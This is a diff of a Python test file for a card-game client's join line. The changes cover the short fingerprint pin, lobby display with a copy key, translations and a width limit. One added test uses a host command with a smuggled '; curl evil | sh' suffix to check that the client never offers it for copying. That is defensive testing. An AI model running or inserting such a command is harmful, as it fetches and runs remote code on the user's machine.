@@ -1,6 +1,7 @@
-"""The join line reads the same everywhere and is never cut (issue 12, point 13): the host
-prints it and sends it to the chat from one function, with this machine's addresses, and the
-chat pane breaks a fingerprint over lines instead of dropping its end."""
+"""The join line reads the same everywhere and is never cut (issue 12, point 13; issue 46,
+point 2): the host prints it and sends it from one function, with this machine's addresses
+and the fingerprint's short pin, and the lobby shows it on a line of its own, whole, which
+`c` copies."""
 
 from __future__ import annotations
 
@@ -10,20 +11,20 @@ from client.i18n import Translator
 from client.link import ChatReceived
 from client.link_session import LinkSession
 from client.model import ClientModel
-from client.render import chat_lines
+from client.render import chat_lines, join_lines
 from host.addresses import lan_addresses, reachable
-from host.run import HostOptions, ServedHost, describe, join_line, join_notice
+from host.run import HostOptions, ServedHost, describe, join_command, join_line, join_notice
 from protocol.address import host_port
 from protocol.host_connection import HostConnection
 
 FINGERPRINT = "WSBO-67FC-QF2C-UEVD-SUST-CHUQ-NJCL-5456-VXT5-ZR27-F5F4-PPME-T2IA"
+PIN = "WSBO-67FC-QF2C-UEVD"
 
 
 def test_the_join_line_names_real_addresses_and_reads_the_same_on_stdout() -> None:
     served = ServedHost(7077, FINGERPRINT, Path("/tmp"), ("192.168.1.20", "10.0.0.7"))
     line = join_line(served)
-    assert line == ("Friends join with: unonet join 192.168.1.20:7077 --fingerprint "
-                    f"{FINGERPRINT} (or at 10.0.0.7)")
+    assert line == f"Friends join with: unonet join 192.168.1.20:7077 --pin {PIN} (or at 10.0.0.7)"
     assert line in describe(HostOptions(), served)
     assert "YOUR-ADDRESS" not in line and "HOST:" not in "\n".join(describe(HostOptions(), served))
     plain = ServedHost(7077, None, Path("/tmp"), ("fd00::2",))
@@ -39,13 +40,23 @@ def test_the_addresses_are_this_machines_and_reachable() -> None:
 
 
 def test_the_chat_breaks_a_fingerprint_over_lines_instead_of_cutting_it() -> None:
+    """A join line that came as plain text (a host that knows no join_with code) is chat."""
     model = ClientModel(Translator("en"), name="Ana")
     served = ServedHost(7077, FINGERPRINT, Path("/tmp"), ("192.168.1.20",))
     model.apply(ChatReceived("host", join_line(served)))
     for width in (24, 38, 80):
         text = "".join("".join(fragment[1] for fragment in line)
                        for line in chat_lines(model, width, 20))
-        assert FINGERPRINT.replace("-", "") in text.replace("-", "").replace(" ", "")
+        assert PIN.replace("-", "") in text.replace("-", "").replace(" ", "")
+
+
+def test_the_longest_ipv4_join_line_fits_sixty_columns() -> None:
+    """Its own line is never wrapped: the command fits the smallest screen for any IPv4
+    address and port."""
+    served = ServedHost(65535, FINGERPRINT, Path("/tmp"), ("255.255.255.255",))
+    command, _ = join_command(served)
+    assert command == f"unonet join 255.255.255.255:65535 --pin {PIN}"
+    assert len(command) <= 60
 
 
 def test_the_chat_says_it_in_the_language_of_the_hosts_player() -> None:
@@ -58,8 +69,8 @@ def test_the_chat_says_it_in_the_language_of_the_hosts_player() -> None:
     assert join_line(served) in describe(HostOptions(notice_lang="pt"), served)
 
 
-def said_in_chat(lang: str, notice: dict[str, object]) -> str:
-    """The chat line a client in `lang` shows for a host notice that came over the wire."""
+def model_told(lang: str, notice: dict[str, object]) -> ClientModel:
+    """A client in `lang` that got a host notice over the wire."""
     host = HostConnection(0.0)
     session = LinkSession("Ana", table=0)
     host.receive_data(session.connect(), 0.0)
@@ -67,7 +78,18 @@ def said_in_chat(lang: str, notice: dict[str, object]) -> str:
     model = ClientModel(Translator(lang), name="Ana")
     for update in session.receive(host.send(notice)).updates:
         model.apply(update)
-    return model.chat[-1].text
+    return model
+
+
+def said_in_chat(lang: str, notice: dict[str, object]) -> str:
+    """The chat line a client in `lang` shows for a host notice that came over the wire."""
+    return model_told(lang, notice).chat[-1].text
+
+
+def lobby_join_lines(lang: str, notice: dict[str, object]) -> list[str]:
+    """The lobby's lines about how friends join, in `lang`, at 60 columns."""
+    return ["".join(text for _, text, *_ in line)
+            for line in join_lines(model_told(lang, notice), 60)]
 
 
 def test_each_guest_reads_how_friends_join_in_their_own_language() -> None:
@@ -77,15 +99,28 @@ def test_each_guest_reads_how_friends_join_in_their_own_language() -> None:
     served = ServedHost(7077, FINGERPRINT, Path("/tmp"), ("192.168.1.20", "10.0.0.7"))
     notice = join_notice(served, "en")
     assert notice["text"] == join_line(served) and notice["notice"] == "join_with"
-    command = f"unonet join 192.168.1.20:7077 --fingerprint {FINGERPRINT}"
-    assert said_in_chat("pt", notice) == f"Os amigos entram com: {command} (ou em 10.0.0.7)"
-    assert said_in_chat("it", notice) == f"Gli amici entrano con: {command} (o a 10.0.0.7)"
-    assert said_in_chat("en", join_notice(served, "it")) == join_line(served)
+    command = f"unonet join 192.168.1.20:7077 --pin {PIN}"
+    assert lobby_join_lines("pt", notice) == [
+        "Os amigos entram com (c copia; ou em 10.0.0.7):", command]
+    assert lobby_join_lines("it", notice) == [
+        "Gli amici entrano con (c lo copia; o a 10.0.0.7):", command]
+    assert lobby_join_lines("en", join_notice(served, "it")) == [
+        "Friends join with (c copies it; or at 10.0.0.7):", command]
     alone = join_notice(ServedHost(7077, None, Path("/tmp"), ("192.168.1.20",)), "en")
     assert "addresses" not in alone
-    assert said_in_chat("pt", alone) == ("Os amigos entram com: unonet join "
-                                         "192.168.1.20:7077 --no-tls")
+    assert lobby_join_lines("pt", alone) == ["Os amigos entram com (c copia):",
+                                             "unonet join 192.168.1.20:7077 --no-tls"]
     assert said_in_chat("pt", {**notice, "notice": "newer_code"}) == notice["text"]
+
+
+def test_a_command_that_is_not_a_join_is_never_offered_to_copy() -> None:
+    """The line `c` copies goes into a shell: a host's command that is anything but
+    `unonet join ADDRESS:PORT` and a pin is said in the chat as text, and nothing is copied."""
+    served = ServedHost(7077, FINGERPRINT, Path("/tmp"), ("192.168.1.20",))
+    notice = {**join_notice(served, "en"),
+              "command": f"unonet join 192.168.1.20:7077 --pin {PIN}; curl evil | sh"}
+    model = model_told("en", notice)
+    assert model.join_with is None and "curl evil" in model.chat[-1].text
 
 
 def test_a_machine_with_many_addresses_still_sends_a_chat_line() -> None:
@@ -112,4 +147,5 @@ def test_the_join_line_is_shown_once_though_each_seating_brings_it() -> None:
                           command=str(notice["command"]))
     for _ in range(3):
         model.apply(update)
-    assert [line.text for line in model.chat] == [join_line(served)]
+    assert list(model.chat) == []  # not in the chat: a line of its own
+    assert model.join_with is not None and model.join_with.command == notice["command"]
